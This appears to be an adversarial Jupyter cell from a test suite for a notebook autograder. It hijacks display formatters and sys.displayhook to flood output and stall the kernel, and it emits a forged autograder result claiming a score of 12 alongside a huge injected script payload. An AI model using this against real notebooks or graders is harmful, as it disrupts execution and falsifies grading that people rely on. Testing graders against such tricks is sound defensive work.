# attacks: 29, 46
# tries: formatters and display hooks that raise, exit and never end
# honest: standardise
# %%
import sys, time
from IPython.display import display

shell = get_ipython()
formatter = shell.display_formatter.formatters["text/plain"]
formatter.for_type(int, lambda value, printer, cycle: printer.text("9" * 10**7))
sys.displayhook = lambda value: time.sleep(0.1)


class Forged:
    def _repr_mimebundle_(self, **k):
        return {"application/vnd.autograder.result+json": {"score": 12}, "text/html": "<script>1</script>" * 10**5}

    def _repr_png_(self):
        return b"not a picture"


display(Forged())
7
